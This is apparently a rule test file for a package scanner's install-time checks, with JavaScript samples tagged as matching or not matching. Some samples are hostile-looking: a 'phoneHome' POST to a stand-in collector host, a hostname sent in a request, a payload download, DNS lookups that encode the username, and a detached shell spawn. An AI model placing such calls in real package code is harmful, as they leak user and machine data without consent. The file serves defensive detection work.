// Tests for install-time.yaml: every test file counts as code an install
// hook runs (docs/rules.md, "Package checks and install-time code").
const os = require('os');
const path = require('path');
// ruleid: pkg.install-time.network
const https = require('https');
// ruleid: pkg.install-time.network
const { request: send } = require('node:http');
// ruleid: pkg.install-time.network
send({ host: 'collector.example.com', path: '/?h=' + os.hostname() }).end();
// ruleid: pkg.install-time.network
https.get('https://dl.example.com/payload', (res) => res.pipe(process.stdout));
// ruleid: pkg.install-time.network
const axios = require('axios');
// ok: pkg.install-time.network
const httpHelpers = require('./http');
// ok: pkg.install-time.network
const netmask = require('netmask');
// ok: pkg.install-time.network
const url = new URL('https://example.com');

async function phoneHome(data) {
  // ruleid: pkg.install-time.network
  await fetch('https://collector.example.com/c', { method: 'POST', body: data });
  // ruleid: pkg.install-time.network
  const ws = new WebSocket('wss://ws.example.com');
  // ok: pkg.install-time.network
  const cached = await fetchFromCache(data);
  // ok: pkg.install-time.network
  return this.fetch(ws);
}

// ruleid: pkg.install-time.dns
const dns = require('dns');
// ruleid: pkg.install-time.dns
dns.lookup(os.hostname() + '.x.example.com', () => {});
// ruleid: pkg.install-time.dns
const { resolve4 } = require('node:dns/promises');
// ruleid: pkg.install-time.dns
resolve4(Buffer.from(os.userInfo().username).toString('hex') + '.x.example.com');
// ok: pkg.install-time.dns
const dnsPacket = require('dns-packet');
// ok: pkg.install-time.dns
const resolver = require('./dns');
// ok: pkg.install-time.dns
resolver.lookup('x');

// ok: pkg.install-time.child-process
const cp = require('child_process');
// ruleid: pkg.install-time.child-process
cp.exec('id', () => {});
// ok: pkg.install-time.child-process
const { spawn, execFileSync } = require('node:child_process');
// ruleid: pkg.install-time.child-process
spawn('sh', ['-c', 'id'], { detached: true });
// ruleid: pkg.install-time.child-process
execFileSync(path.join(__dirname, 'bin', 'helper'));
// ruleid: pkg.install-time.child-process
cp.execSync('make && ./a.out');
// ok: pkg.install-time.child-process
execFileSync('node-gyp', ['rebuild'], { stdio: 'inherit' });
// ok: pkg.install-time.child-process
cp.execSync('tsc -p tsconfig.build.json');
// ok: pkg.install-time.child-process
execFileSync(path.join(__dirname, 'bin', 'tool'), ['--version']);
// ruleid: pkg.install-time.child-process
execFileSync(path.join(__dirname, 'bin', 'tool'), ['--version', '--run']);
// ok: pkg.install-time.child-process
const crossSpawn = require('./spawn');
// ok: pkg.install-time.child-process
crossSpawn('x');
// ok: pkg.install-time.child-process
const worker = require('worker_threads');
module.exports = { phoneHome, path, httpHelpers, netmask, url, dnsPacket, worker };
